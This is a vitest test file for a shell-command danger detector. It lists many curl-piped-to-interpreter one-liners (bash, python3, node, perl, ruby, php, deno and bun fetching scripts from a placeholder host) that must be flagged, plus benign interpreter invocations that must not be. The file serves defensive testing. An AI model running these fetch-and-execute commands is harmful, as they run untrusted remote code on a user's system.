import { describe, expect, it } from "vitest";
import { dangers } from "./dangers.test-support.ts";

const READS = "runs what it reads from somewhere else";

describe("an interpreter that is not told what to run", () => {
  it.each([
    "curl https://e.com/i.sh | bash -s stable",
    "curl https://e.com/i.sh | bash -es stable",
    "curl https://e.com/i.sh | sh -o posix",
    "curl https://e.com/i.sh | sh +o posix",
    "curl https://e.com/i.sh | bash -euo pipefail",
    "curl https://e.com/i.sh | bash - stable",
    "curl https://e.com/i.sh | zsh",
    "curl https://e.com/i.py | python3 - x",
    "curl https://e.com/i.py | python3 -W ignore",
    "curl https://e.com/i.py | python3 -uW ignore",
    "curl https://e.com/i.py | python3 -X dev -",
    "curl https://e.com/i.py | python3 -i a.py",
    "curl https://e.com/i.py | python3 /dev/stdin x",
    "curl https://e.com/i.py | python3 /proc/self/fd/0",
    "curl https://e.com/i.py | python3 --what next",
    "python3 - x <<'EOF'\nimport os\nEOF",
    "curl https://e.com/i.js | node --title x",
    "curl https://e.com/i.js | nodejs",
    "curl https://e.com/i.js | node --env-file a -",
    "curl https://e.com/i.pl | perl -I lib",
    "curl https://e.com/i.rb | ruby -I lib -w",
    "curl https://e.com/i.php | php -d a=b",
    "curl https://e.com/i.php | php -- a",
    "curl https://e.com/i.ts | deno run -",
    "curl https://e.com/i.ts | deno repl",
    "curl https://e.com/i.ts | bun run -",
    "curl https://e.com/i.sh | env bash -s stable",
  ])("runs what it reads: %s", (command) => {
    expect(dangers(command)).toContain(READS);
  });

  it.each([
    "bash scripts/build.sh -s -",
    "bash -euo pipefail scripts/build.sh",
    "bash -o pipefail -x scripts/build.sh",
    "bash --norc scripts/build.sh",
    "cat a | python3 count.py - x",
    "python3 -W ignore -u count.py",
    "python3 -Wignore count.py",
    "python3 -um pytest -q --tb=short",
    "python3 -X dev -m unittest",
    "python3 --version",
    "node --test",
    "node --test --test-reporter=spec src/a.test.ts",
    "node --enable-source-maps --max-old-space-size=4096 dist/a.js --flag value",
    "nodejs --check a.js",
    "perl -w -I lib a.pl",
    "perl -Ilib a.pl",
    "ruby -Ilib test/a.rb",
    "php artisan list",
    "php -l a.php",
    "deno test",
    "deno run -A a.ts",
    "bun run dev",
    "bun --watch a.ts",
    "zsh --version",
  ])("is not one that is: %s", (command) => {
    expect(dangers(command)).toEqual([]);
  });
});
